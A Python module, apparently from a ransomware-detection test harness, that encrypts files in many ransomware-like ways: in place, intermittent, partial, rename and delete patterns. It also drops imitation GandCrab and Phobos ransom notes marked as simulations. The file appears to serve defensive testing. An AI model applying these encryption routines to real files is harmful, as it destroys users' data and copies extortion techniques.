"""The usual ways to take a file."""

import mmap
import os
import random
import time

from deeds import cipher, deed, read, seed_of, write


def in_place(path, name=None, first=None):
    with open(path, "r+b") as file:
        data = file.read(first) if first else file.read()
        deed(name or path)
        file.seek(0)
        file.write(cipher(data, name or path))


def stretches(path, pieces):
    """Encrypts only some stretches, given as pairs of offset and length."""
    with open(path, "r+b") as file:
        deed(path)
        for at, length in pieces:
            file.seek(at)
            data = file.read(length)
            file.seek(at)
            file.write(cipher(data, path))


def each_in_place(path):
    in_place(path)


def each_new_then_delete(path):
    data = read(path)
    deed(path)
    write(path + ".enc", cipher(data, path))
    os.unlink(path)


def each_delete_then_new(path):
    data = cipher(read(path), path)
    deed(path)
    os.unlink(path)
    write(path + ".enc", data)


def each_rename_over(path):
    data = read(path)
    write(path + ".tmp", cipher(data, path))
    deed(path)
    os.rename(path + ".tmp", path)


def each_rename_first(path):
    deed(path)
    os.rename(path, path + ".locked")
    in_place(path + ".locked", path)


def each_safe_save(path):
    """As an editor saves: beside it, the old one out of the way, the new one in its place, the old one gone."""
    data = read(path)
    write(path + "~new", cipher(data, path))
    deed(path)
    os.rename(path, path + "~old")
    os.rename(path + "~new", path)
    os.unlink(path + "~old")


def each_o_trunc(path):
    data = read(path)
    deed(path)
    write(path, cipher(data, path))


def each_truncate_path(path):
    data = read(path)
    deed(path)
    os.truncate(path, 0)
    descriptor = os.open(path, os.O_WRONLY)
    os.write(descriptor, cipher(data, path))
    os.close(descriptor)


def each_mapped(path):
    with open(path, "r+b") as file:
        if os.fstat(file.fileno()).st_size:
            with mmap.mmap(file.fileno(), 0) as view:
                deed(path)
                view[:] = cipher(view[:], path)


def each_first_4k(path):
    in_place(path, first=4096)


def each_first_64(path):
    in_place(path, first=64)


def each_intermittent(path):
    """4 KiB of every 16 KiB, as several families of 2022 and later do."""
    stretches(path, [(at, 4096) for at in range(0, os.path.getsize(path), 16384)])


def each_partial_4_percent(path):
    """64 bytes here and there, 4 % in all: enough to make most formats unreadable."""
    size = os.path.getsize(path)
    dice = random.Random(seed_of(path))
    count = max(1, size * 4 // 100 // 64)
    places = sorted(dice.sample(range(max(1, size // 64)), min(count, max(1, size // 64))))
    stretches(path, [(place * 64, 64) for place in places])


def all_slow(files, _):
    for path in files[:12]:
        in_place(path)
        time.sleep(0.5)


def family(path, new_name, notes):
    folder = os.path.dirname(path)
    for name, text in notes:
        if not os.path.exists(os.path.join(folder, name)):
            write(os.path.join(folder, name), text)
    in_place(path)
    os.rename(path, new_name)


def each_gandcrab(path):
    family(path, path + ".KRAB", [("KRAB-DECRYPT.txt", b"---= GANDCRAB V4 =--- (a simulation) all your files were encrypted\r\n")])


def each_gandcrab_5(path):
    family(path, path + ".hjqwxkzr", [("HJQWXKZR-DECRYPT.txt", b"---= GANDCRAB V5.0.4 =--- (a simulation)\r\n")])


def each_phobos(path):
    notes = [("info.txt", b"!!!All of your files are encrypted!!! (a simulation)\r\n"), ("info.hta", b"<html>a simulation</html>\r\n")]
    family(path, path + ".id[1A2B3C4D-2275].[mail@example.invalid].elbie", notes)
